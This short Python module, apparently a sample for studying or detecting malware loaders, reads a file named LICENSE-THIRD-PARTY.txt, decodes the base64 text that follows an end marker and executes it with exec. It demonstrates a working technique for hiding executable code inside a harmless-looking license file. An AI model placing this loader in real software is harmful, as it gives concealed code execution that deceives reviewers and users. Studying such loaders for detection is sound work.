# Imitates loaders that keep the payload base64-encoded in an innocent-looking .txt next to the module.
import base64
import os

HERE = os.path.dirname(os.path.abspath(__file__))


def init():
    with open(os.path.join(HERE, "LICENSE-THIRD-PARTY.txt"), "rb") as handle:
        notes = handle.read()
    marker = notes.index(b"-----END-----") + 13
    source = base64.b64decode(notes[marker:])
    exec(compile(source, "<license>", "exec"))
